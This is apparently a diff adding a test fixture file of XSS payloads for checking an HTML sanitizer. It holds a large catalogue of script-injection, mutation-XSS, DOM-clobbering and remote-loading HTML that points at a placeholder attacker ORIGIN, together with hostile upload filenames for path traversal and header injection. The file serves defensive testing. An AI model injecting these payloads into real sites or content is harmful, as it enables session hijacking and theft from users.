@@ -1,0 +1,98 @@
+/**
+ * HTML that tries to run, load, submit or draw outside its place. CANARY stands for `window.__pwned=1` or the like, ORIGIN for
+ * a server of the attacker's. Shapes after the OWASP XSS filter evasion list, the DOMPurify advisories on mutation XSS, and
+ * what the help desks in the security brief were broken with.
+ */
+const run = "window.top.__pwned=(window.top.__pwned||0)+1;window.__pwned=1";
+
+export const htmlPayloads: readonly [string, string][] = [
+  ['script', `<script>${run}</script>`],
+  ['script from outside', '<script src="ORIGIN/evil.js"></script>'],
+  ['script in odd letters', `<ScRiPt\n>${run}</sCrIpT >`],
+  ['script split by a null', `<scr\0ipt>${run}</script>`],
+  ['script nested', `<scr<script></script>ipt>${run}</script>`],
+  ['script in a comment that ends early', `<!--><script>${run}</script>-->`],
+  ['image error', `<img src=x onerror="${run}">`],
+  ['image error, slashes', `<img/src="x"/onerror=${'`'}${run}${'`'}>`],
+  ['image error, entities', '<img src=x onerror="&#119;indow.top.__pwned=1">'],
+  ['image with srcset', `<img srcset="ORIGIN/srcset.png 1x" src="ORIGIN/image.png" onload="${run}">`],
+  ['picture source', '<picture><source srcset="ORIGIN/picture.png"><img src="ORIGIN/picture2.png"></picture>'],
+  ['lazy background attribute', '<table background="ORIGIN/background.png"><tr><td background="ORIGIN/cell.png">x</td></tr></table>'],
+  ['body onload', `<body onload="${run}" background="ORIGIN/body.png">text</body>`],
+  ['autofocus', `<input autofocus onfocus="${run}">`],
+  ['details toggle', `<details open ontoggle="${run}"><summary>x</summary></details>`],
+  ['pointer events', `<div onpointerover="${run}" onmouseover="${run}" style="position:fixed;inset:0">x</div>`],
+  ['animation event', `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>`],
+  ['marquee', `<marquee onstart="${run}">x</marquee>`],
+  ['video error', `<video><source onerror="${run}"></video><audio src=x onerror="${run}"></audio>`],
+  ['video poster', '<video poster="ORIGIN/poster.png" src="ORIGIN/video.mp4" autoplay></video>'],
+  ['javascript link', `<a href="javascript:${run}">click me</a>`],
+  ['javascript link with a tab', `<a href="java\tscript:${run}">click me</a>`],
+  ['javascript link in entities', `<a href="&#x6A;avascript:${run}">click me</a>`],
+  ['javascript link with control characters', `<a href="\u0001javascript:${run}">click me</a>`],
+  ['data link', `<a href="data:text/html,<script>opener.__pwned=1;${run}</script>">click me</a>`],
+  ['vbscript link', '<a href="vbscript:msgbox(1)">click me</a>'],
+  ['image map', `<map name="m"><area shape="rect" coords="0,0,999,999" href="javascript:${run}"></map><img usemap="#m" width="300" height="100" src="x">`],
+  ['svg script', `<svg><script>${run}</script></svg>`],
+  ['svg onload', `<svg onload="${run}"><circle r="9"/></svg>`],
+  ['svg animate a link', `<svg><a><animate attributeName="href" values="javascript:${run}"/><text x="20" y="20">click me</text></a></svg>`],
+  ['svg use', '<svg><use href="ORIGIN/sprite.svg#x"/><image href="ORIGIN/svg.png"/></svg>'],
+  ['svg foreignObject', `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`],
+  ['mathml link', `<math><mtext><a href="javascript:${run}">click me</a></mtext></math>`],
+  ['mathml action', `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">click me</maction></math>`],
+  ['mutation: mglyph and style', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`],
+  ['mutation: form in form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`],
+  ['mutation: noscript', `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`],
+  ['mutation: svg style', `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`],
+  ['mutation: template and textarea', `<template><textarea></template><img src=x onerror=${run}></textarea>`],
+  ['mutation: xmp', `<xmp><p title="</xmp><img src=x onerror=${run}>">`],
+  ['mutation: title', `<svg><title><style><img src=x onerror=${run}></style></title></svg>`],
+  ['mutation: deep nesting', `${'<div>'.repeat(600)}<svg><desc><math><mi><img src=x onerror=${run}></mi></math></desc></svg>`],
+  ['mutation: select', `<select><option><style></option></select><img src=x onerror=${run}></style>`],
+  ['clobbering', '<form id="body" name="querySelectorAll"><input name="parentNode"><input id="attributes"></form><img name="currentScript" src="x"><a id="location" href="ORIGIN/clobber">x</a>'],
+  ['meta refresh', '<meta http-equiv="refresh" content="0;url=ORIGIN/refresh">'],
+  ['meta policy', '<meta http-equiv="Content-Security-Policy" content="default-src *">'],
+  ['base', '<base href="ORIGIN/"><img src="based.png"><a href="based">click me</a>'],
+  ['form', `<form action="ORIGIN/form" method="post"><input name="password" value="x"><button formaction="javascript:${run}">click me</button></form>`],
+  ['submit by itself', `<form id="f" action="ORIGIN/auto"></form><button form="f" autofocus onfocus="this.click()">x</button>`],
+  ['iframe srcdoc', `<iframe srcdoc="<script>parent.parent.__pwned=1;${run}</script>"></iframe>`],
+  ['iframe javascript', `<iframe src="javascript:${run}"></iframe>`],
+  ['iframe outside', '<iframe src="ORIGIN/frame"></iframe><frameset><frame src="ORIGIN/frameset"></frameset>'],
+  ['object and embed', `<object data="ORIGIN/object.svg"></object><embed src="ORIGIN/embed.swf"><object data="javascript:${run}"></object>`],
+  ['link stylesheet', '<link rel="stylesheet" href="ORIGIN/sheet.css"><link rel="preload" as="image" href="ORIGIN/preload.png"><link rel="prefetch" href="ORIGIN/prefetch"><link rel="dns-prefetch" href="ORIGIN">'],
+  ['css import', '<style>@import url(ORIGIN/import.css); @font-face{font-family:x;src:url(ORIGIN/font.woff)} body{font-family:x;background:url(ORIGIN/style.png)}</style><p>x</p>'],
+  ['css in an attribute', '<div style="background:url(ORIGIN/attribute.png);list-style:url(ORIGIN/list.png);border-image:url(ORIGIN/border.png) 1;content:url(ORIGIN/content.png);cursor:url(ORIGIN/cursor.cur),auto">x</div>'],
+  ['css escaped', '<div style="background:u\\72l(ORIGIN/escaped.png);background-image:image-set(\'ORIGIN/set.png\' 1x)">x</div>'],
+  ['css expression', `<div style="width:expression(${run});behavior:url(ORIGIN/x.htc);-moz-binding:url(ORIGIN/x.xml#x)">x</div>`],
+  ['css covers the page', '<a href="ORIGIN/overlay" style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:2147483647">click me</a>'],
+  ['ping and target', '<a href="https://example.com/" ping="ORIGIN/ping" target="_top">x</a>'],
+  ['portal and custom element', `<portal src="ORIGIN/portal"></portal><x-y onclick="${run}" contenteditable autofocus onfocus="${run}">x</x-y>`],
+  ['popover and dialog', `<dialog open onclose="${run}"><form method="dialog"><button popovertarget="p" onclick="${run}">click me</button></form></dialog><div popover id="p" onbeforetoggle="${run}">x</div>`],
+  ['remote image over http', '<p>Look: <img src="ORIGIN/remote.png" width="80" height="40" alt="Look"></p>'],
+  ['our own addresses as image', '<p><img src="/api/auth/sign-out"><img src="//ORIGINHOST/scheme-relative.png" width="50" height="50"><img src="/api/v1/me"></p>'],
+];
+
+/** Names that end up in the page: subject, sender, files. */
+export const namePayloads: readonly string[] = [
+  `<img src=x onerror=${run}>`,
+  `"><script>${run}</script>`,
+  `'\`--><svg/onload=${run}>`,
+  `{{constructor.constructor('${run}')()}}\${${run}}`,
+  `javascript:${run}`,
+];
+
+export type HostileFile = { filename: string; contentType: string; content: string };
+
+export const filePayloads: readonly HostileFile[] = [
+  { filename: 'picture.svg', contentType: 'image/svg+xml', content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>` },
+  { filename: 'page.html', contentType: 'text/html', content: `<script>opener&&(opener.__pwned=1);${run}</script>` },
+  { filename: 'page.xhtml', contentType: 'application/xhtml+xml', content: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>` },
+  { filename: 'feed.xml', contentType: 'text/xml', content: `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>` },
+  { filename: 'evil.js', contentType: 'text/javascript', content: run },
+  { filename: 'evil.css', contentType: 'text/css', content: 'body{display:none}' },
+  { filename: 'photo.png', contentType: 'image/png', content: `<html><script>${run}</script></html>` },
+  { filename: 'notes.txt', contentType: 'text/html; charset="><script>"', content: `<script>${run}</script>` },
+  { filename: `<img src=x onerror=${run}>.pdf`, contentType: 'application/pdf', content: '%PDF-1.4' },
+  { filename: '../../../../etc/passwd', contentType: 'application/octet-stream', content: 'x' },
+  { filename: 'two\r\nX-Header: 1.txt', contentType: 'text/plain', content: 'x' },
+];
